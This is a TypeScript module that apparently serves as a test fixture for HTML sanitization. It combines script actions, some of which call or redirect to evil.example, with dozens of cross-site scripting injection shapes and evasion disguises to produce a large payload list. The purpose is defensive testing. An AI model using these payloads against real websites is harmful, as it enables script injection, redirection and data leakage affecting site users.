/** What attackers write (T-36): each would run a script, or load something, if it became HTML. */
const acts = [
  "alert(1)",
  "globalThis.struck=1",
  "fetch('http://evil.example/x')",
  "import('data:text/javascript,alert(1)')",
  "top.location='http://evil.example/'",
];

const shapes: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</li></ul></title></script><script>${act}</script>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<!--><script>${act}</script>-->`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><img src=x onerror="${act}">`,
  (act) => `'><img src=x onerror="${act}">`,
  (act) => `<img src=http://evil.example/i onload="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text y=9>x</text></a></svg>`,
  (act) => `<body onload="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<select autofocus onfocus="${act}">`,
  (act) => `<textarea autofocus onfocus="${act}">`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<video poster=http://evil.example/p autoplay onplay="${act}">`,
  (act) => `<audio src=x onerror="${act}">`,
  (act) => `<marquee onstart="${act}">x</marquee>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}" autofocus>x</a>`,
  (act) => `<form action="javascript:${act}"><button autofocus>x</button></form>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="http://evil.example/"><script src=x>${act}</script>`,
  (act) => `<link rel=stylesheet href=http://evil.example/s onload="${act}">`,
  (act) => `<style>@import 'http://evil.example/s';</style><style onload="${act}"></style>`,
  (act) => `<math><maction actiontype=statusline xlink:href="javascript:${act}">x</maction></math>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `{{constructor.constructor('${act}')()}}`,
];

const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replaceAll(/<(\/?)([a-z]+)/g, (_, end, name) => `<${end}${odd(name)}`),
  (payload) => payload.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

export const payloads: readonly string[] = acts.flatMap((act) =>
  shapes.flatMap((shape) => disguises.map((disguise) => disguise(shape(act)))),
);

/** So many that each still fits into one message. */
export function inBundles(size: number): readonly string[] {
  const count = Math.ceil(payloads.length / size);
  return Array.from({ length: count }, (_, at) =>
    payloads.slice(at * size, (at + 1) * size).join(" "),
  );
}

function odd(name: string): string {
  return name.replaceAll(/(.)(.?)/g, (_, one: string, two: string) => one.toUpperCase() + two);
}
